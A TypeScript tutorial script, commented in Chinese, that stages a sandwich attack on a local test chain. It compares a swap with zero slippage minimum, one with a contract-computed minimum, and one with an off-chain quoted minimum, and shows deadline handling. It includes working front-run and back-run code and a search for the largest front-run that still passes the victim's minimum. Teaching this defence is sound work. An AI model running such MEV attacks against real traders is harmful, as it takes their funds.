// SPDX-License-Identifier: MIT
// 三明治攻击演示：同一笔兑换，下限为 0、下限在合约里现算、下限来自链下报价，各会怎样。
// 攻击者与受害者都是本地链的测试账户。下限为 0 只出现在这份演示里，不要照抄。
// #region imports
import {
  erc20Abi,
  formatUnits,
  parseAbi,
  parseGwei,
  parseUnits,
  testActions,
  zeroAddress,
  type Address,
  type Hash,
} from 'viem';
import { deployments, publicClient } from '#starter/clients';
import { showFailure } from '#starter/failures';
import { moveTime } from '#starter/local-chain';
import { waitForSuccess } from '#starter/receipts';
import { account, walletClient } from '#starter/wallet';
import { artifact } from '#solidity';
// #endregion imports

// #region setup
const { wxoc, usdt, v2Factory, v2Router } = deployments;
const sellPath = [wxoc, usdt];
const buyPath = [usdt, wxoc];
const routerAbi = parseAbi([
  'function getAmountsOut(uint256 amountIn, address[] path) view returns (uint256[] amounts)',
  'function swapExactTokensForTokens(uint256 amountIn, uint256 amountOutMin, address[] path, address to, uint256 deadline) returns (uint256[] amounts)',
]);
const router = { address: v2Router, abi: routerAbi } as const;
const selfQuotedAbi = parseAbi(['function swap(address[] path, uint256 amountIn)']);
const boundedAbi = parseAbi([
  'function swap(address[] path, uint256 amountIn, uint256 amountOutMin, uint256 deadline)',
]);

const victim = account.address;
const [, , attacker] = await walletClient.request({ method: 'eth_accounts' });
const start = await reserves();
const sold = parseUnits('50', 18); // 受害者卖出 50 WXOC
const frontRun = parseUnits('200', 18); // 攻击者先卖出 200 WXOC

const selfQuoted = await deploy('SelfQuotedSwap');
const bounded = await deploy('BoundedSwap');
for (const spender of [v2Router, selfQuoted, bounded]) await approve(account, wxoc, spender, sold);
await wrap(attacker, frontRun);
await approve(attacker, wxoc, v2Router, frontRun);
await approve(attacker, usdt, v2Router, parseUnits('5000', 6));

// Gas 上限写明：回滚的交易也要能打包进区块，否则看不到结果。
const victimGas = { gas: 300_000n, gasPrice: parseGwei('20') };

// 快照与手动出块只有本地链才有：每一轮都从 1,000 / 5,000 开始，交易按 Gas 价格排进同一个区块。
const chain = publicClient.extend(testActions({ mode: 'hardhat' }));
// #endregion setup

// #region quote
// 受害者在链下看到的报价，按它定出 0.5%（50 个基点）的下限。
const [, quoted] = await publicClient.readContract({
  ...router,
  functionName: 'getAmountsOut',
  args: [sold, sellPath],
});
const minimum = (quoted * 995n) / 1000n;
console.log(`受害者卖出 50 WXOC，报价 ${inUsdt(quoted)}，0.5% 的下限 ${inUsdt(minimum)}`);
// #endregion quote

// #region walk
// 先用公式走一遍：每一笔之后储备量怎样变，中间价到了哪里。
let [reserveWxoc, reserveUsdt] = [start.wxoc, start.usdt];
const taken = amountOut(frontRun, reserveWxoc, reserveUsdt);
[reserveWxoc, reserveUsdt] = [reserveWxoc + frontRun, reserveUsdt - taken];
console.log(`1 抢跑：卖出 200 WXOC，收到 ${inUsdt(taken)}，中间价 ${spot()}`);
const left = amountOut(sold, reserveWxoc, reserveUsdt);
[reserveWxoc, reserveUsdt] = [reserveWxoc + sold, reserveUsdt - left];
console.log(`2 受害者：卖出 50 WXOC，收到 ${inUsdt(left)}，中间价 ${spot()}`);
const regained = amountOut(taken, reserveUsdt, reserveWxoc);
[reserveWxoc, reserveUsdt] = [reserveWxoc - regained, reserveUsdt + taken];
console.log(`3 收尾：付出 ${inUsdt(taken)}，买回 ${inWxoc(regained)}，中间价 ${spot()}`);
// #endregion walk

// #region no-minimum
// 演示漏洞：amountOutMin 写成 0。
await round('下限为 0', frontRun, async (until) =>
  walletClient.writeContract({
    ...router,
    functionName: 'swapExactTokensForTokens',
    args: [sold, 0n, sellPath, victim, until],
    ...victimGas,
  }),
);
// #endregion no-minimum

// #region self-quoted
// 演示漏洞：下限在合约里按当时的储备量现算。
await round('下限在合约里现算', frontRun, () =>
  walletClient.writeContract({
    address: selfQuoted,
    abi: selfQuotedAbi,
    functionName: 'swap',
    args: [sellPath, sold],
    ...victimGas,
  }),
);
// #endregion self-quoted

// #region bounded
// 修正：下限来自链下报价，随交易一起签名。
const protectedSwap = (until: bigint) =>
  walletClient.writeContract({
    address: bounded,
    abi: boundedAbi,
    functionName: 'swap',
    args: [sellPath, sold, minimum, until],
    ...victimGas,
  });
await round('下限来自链下报价', frontRun, protectedSwap);
// #endregion bounded

// #region tolerance
// 攻击者算准数量，让受害者恰好拿到下限：容忍度就是受害者比报价少得的上限。
await round('攻击者按下限调整数量', largestFrontRun(), protectedSwap);
// #endregion tolerance

// #region deadline
// 交易在内存池里滞留一天才被打包，储备量没变。
const signedDeadline = (await publicClient.getBlock()).timestamp + 20n * 60n;
await moveTime(24 * 3600);
const late = await walletClient.writeContract({
  address: selfQuoted,
  abi: selfQuotedAbi,
  functionName: 'swap',
  args: [sellPath, sold],
  ...victimGas,
});
const { status: lateStatus } = await publicClient.waitForTransactionReceipt({ hash: late });
console.log(`截止时间写 block.timestamp，一天后才打包：${lateStatus}`);
await showFailure(() =>
  publicClient.simulateContract({
    account: victim,
    address: bounded,
    abi: boundedAbi,
    functionName: 'swap',
    args: [sellPath, sold, minimum, signedDeadline],
  }),
);
// #endregion deadline

// #region round
/** 抢跑、受害者、收尾三笔交易进入同一个区块，顺序由 Gas 价格决定；之后恢复原状。 */
async function round(
  name: string,
  amount: bigint,
  victimSwap: (until: bigint) => Promise<Hash>,
): Promise<void> {
  const fresh = await chain.snapshot();
  const victimBefore = await balance(usdt, victim);
  const attackerBefore = await balance(wxoc, attacker);
  const until = (await publicClient.getBlock()).timestamp + 20n * 60n;

  await chain.setAutomine(false);
  const hash = await victimSwap(until);
  const bought = amountOut(amount, start.wxoc, start.usdt);
  // 攻击者看到内存池里的交易，用更高的 Gas 价格抢在前面，再用更低的 Gas 价格跟在后面。
  await attackerSwap(amount, sellPath, until, parseGwei('30'));
  await attackerSwap(bought, buyPath, until, parseGwei('10'));
  await chain.mine({ blocks: 1 });
  await chain.setAutomine(true);

  const { status } = await publicClient.waitForTransactionReceipt({ hash });
  const received = (await balance(usdt, victim)) - victimBefore;
  const profit = (await balance(wxoc, attacker)) - attackerBefore;
  const outcome =
    status === 'success'
      ? `收到 ${inUsdt(received)}，比报价少 ${percent(quoted - received, quoted)}`
      : '交易回滚，没有付出代币';
  console.log(`${name}：受害者${outcome}；攻击者损益 ${profit > 0n ? '+' : ''}${inWxoc(profit)}`);
  await chain.revert({ id: fresh });
}
// #endregion round

// #region helpers
// 攻击者在同一个区块里排好了顺序，不需要下限；普通用户没有这个条件。
async function attackerSwap(amountIn: bigint, path: Address[], until: bigint, gasPrice: bigint) {
  await walletClient.writeContract({
    ...router,
    account: attacker,
    functionName: 'swapExactTokensForTokens',
    args: [amountIn, 1n, path, attacker, until],
    gas: 300_000n,
    gasPrice,
  });
}

/** 路由合约使用的公式，向下取整。 */
function amountOut(amountIn: bigint, reserveIn: bigint, reserveOut: bigint) {
  return (amountIn * 997n * reserveOut) / (reserveIn * 1000n + amountIn * 997n);
}

/** 使受害者仍能拿到下限的最大抢跑数量；抢跑越多受害者拿到越少，所以可以二分查找。 */
function largestFrontRun() {
  let [low, high] = [0n, frontRun];
  while (high - low > 1n) {
    const middle = (low + high) / 2n;
    const out = amountOut(middle, start.wxoc, start.usdt);
    const victimGets = amountOut(sold, start.wxoc + middle, start.usdt - out);
    if (victimGets >= minimum) low = middle;
    else high = middle;
  }
  return low;
}

async function reserves() {
  const abi = parseAbi([
    'function getPair(address tokenA, address tokenB) view returns (address pair)',
    'function getReserves() view returns (uint112 reserve0, uint112 reserve1, uint32 blockTimestampLast)',
  ]);
  const pair = await publicClient.readContract({
    address: v2Factory,
    abi,
    functionName: 'getPair',
    args: [wxoc, usdt],
  });
  if (pair === zeroAddress) throw new Error('找不到这个交易对，核对两种代币');
  const [reserve0, reserve1] = await publicClient.readContract({
    address: pair,
    abi,
    functionName: 'getReserves',
  });
  return wxoc.toLowerCase() < usdt.toLowerCase()
    ? { wxoc: reserve0, usdt: reserve1 }
    : { wxoc: reserve1, usdt: reserve0 };
}

async function deploy(name: string): Promise<Address> {
  const { abi, bytecode } = artifact(`solidity/security/${name}.sol:${name}`);
  const hash = await walletClient.deployContract({ abi, bytecode, args: [v2Router] });
  const { contractAddress } = await publicClient.waitForTransactionReceipt({ hash });
  if (!contractAddress) throw new Error(`${name} 部署失败`);
  return contractAddress;
}

async function approve(
  owner: typeof account | Address,
  token: Address,
  spender: Address,
  value: bigint,
) {
  const call = { address: token, abi: erc20Abi, functionName: 'approve' } as const;
  const hash = await walletClient.writeContract({
    ...call,
    account: owner,
    args: [spender, value],
  });
  await waitForSuccess(hash);
}

async function wrap(owner: Address, value: bigint) {
  const abi = parseAbi(['function deposit() payable']);
  const call = { account: owner, address: wxoc, abi, functionName: 'deposit', value } as const;
  await waitForSuccess(await walletClient.writeContract(call));
}

function balance(token: Address, owner: Address) {
  const call = { address: token, abi: erc20Abi, functionName: 'balanceOf' } as const;
  return publicClient.readContract({ ...call, args: [owner] });
}

function inUsdt(amount: bigint) {
  return `${formatUnits(amount, 6)} USDT`;
}

function inWxoc(amount: bigint) {
  return `${Number(formatUnits(amount, 18)).toFixed(4)} WXOC`;
}

function spot() {
  return (Number(formatUnits(reserveUsdt, 6)) / Number(formatUnits(reserveWxoc, 18))).toFixed(4);
}

function percent(part: bigint, whole: bigint) {
  return `${((Number(part) / Number(whole)) * 100).toFixed(2)}%`;
}
// #endregion helpers
